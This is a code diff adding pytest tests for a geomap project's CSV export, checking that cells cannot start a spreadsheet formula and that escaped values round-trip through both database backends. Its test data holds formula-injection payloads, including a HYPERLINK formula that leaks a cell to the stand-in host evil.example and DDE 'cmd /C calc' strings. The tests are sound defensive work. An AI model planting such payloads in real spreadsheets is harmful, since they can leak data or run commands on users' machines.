@@ -202,3 +202,96 @@ def test_hand_made_csv_with_only_a_place_id(tmp_path, gaz):
     p.write_text("event_date,side,event_type,place_id\n2025-02-07,ukraine,holding,123456789\n")
     with pytest.raises(GeomapError, match=r"line 2: field 'place_id'"):
         read_claims(p, resolve=lambda n: resolve_place(n, strict=False))
+
+
+# -- spreadsheet formula injection ---------------------------------------------------------------
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "'already quoted",
+    "''=twice",
+    "'",
+    "=",
+    "'=1",
+    "plain text, then =1+1",
+]
+
+
+def _hostile_claims():
+    from geomap.records import PlaceRef
+
+    west = PlaceRef("=9001", "-Westtown", "settlement", -12.5, -3.25, "XX", "@X.1", 10)
+    out = []
+    for i, h in enumerate(HOSTILE):
+        src = make_source(100 + i, title=h, outlet=h, author=h)
+        out.append(
+            make_claim("toretsk", source=src, quote=h, claimant=h, notes=h, place_as_written=h,
+                       extractor=h, extractor_version=h)  # fmt: skip
+        )
+    c = make_claim(source=make_source(99, url="=1+1", content_hash="-1"), quote="west")
+    out.append(type(c)(**{**c.__dict__, "place": west}))
+    return out
+
+
+def test_csv_cells_cannot_start_a_formula(tmp_path):
+    import csv
+
+    from geomap.formats.csv import TEXT_COLUMNS, escape_cell
+
+    path = tmp_path / "hostile.csv"
+    export_claims(_hostile_claims(), path)
+    with open(path, encoding="utf-8", newline="") as fp:
+        rows = list(csv.DictReader(fp))
+    assert len(rows) == len(HOSTILE) + 1
+    for row in rows:
+        for k, v in row.items():
+            if k in TEXT_COLUMNS:
+                assert not v.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (k, v)
+                if v.startswith("'"):  # escaped text, or text that started with a quote
+                    assert v[1:].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "'")), (k, v)
+            elif v.startswith("-"):
+                float(v)  # only numbers may start with a minus (a negative coordinate)
+    west = rows[-1]
+    assert (west["latitude"], west["longitude"]) == ("-12.5", "-3.25")
+    assert (west["location"], west["place_id"]) == ("'-Westtown", "'=9001")
+    assert (west["source"], west["source_hash"], west["admin1"]) == ("'=1+1", "'-1", "'@X.1")
+    by_quote = {r["quote"]: r for r in rows}
+    assert by_quote[escape_cell(HOSTILE[0])]["actor"] == "'" + HOSTILE[0]
+    # Text that starts with the escape quote gets one more, so import can tell them apart.
+    assert {"''already quoted", "'''=twice", "''", "''=1", "'="} <= set(by_quote)
+    assert by_quote["plain text, then =1+1"]["notes"] == "plain text, then =1+1"
+
+
+def test_csv_hostile_cells_round_trip_through_both_backends(db_url, tmp_path, request):
+    claims = _hostile_claims()
+    with open_store(db_url) as s:
+        s.import_claims(claims)
+        path = tmp_path / "hostile.csv"
+        assert export_claims(s.claims(), path) == len(claims)
+    back = read_claims(path)
+    assert _key(back) == _key(claims)
+    assert {c.quote for c in back} == {*HOSTILE, "west"}
+    assert {c.source.title for c in back if c.source.title != "Report 99"} == set(HOSTILE)
+    if db_url.startswith("sqlite"):
+        url2 = f"sqlite:///{tmp_path / 'second.db'}"
+    else:
+        url2 = request.getfixturevalue("pg_server").new_database()
+    with open_store(url2) as s2:
+        assert s2.import_claims(back).added == len(claims)
+        assert s2.import_claims(read_claims(path)).added == 0  # same cells: all already stored
+        assert _key(s2.claims()) == _key(claims)
+
+
+def test_hand_made_csv_keeps_a_leading_quote_not_before_a_formula(tmp_path):
+    p = tmp_path / "hand.csv"
+    p.write_text(
+        "event_date,side,event_type,location,latitude,longitude,place_id,actor,notes\n"
+        "2025-02-07,russia,captured,Toretsk,48.3978,37.8469,1001,'Tis the MoD,'-5 km west\n"
+    )
+    [c] = read_claims(p)
+    assert (c.claimant, c.notes) == ("'Tis the MoD", "-5 km west")
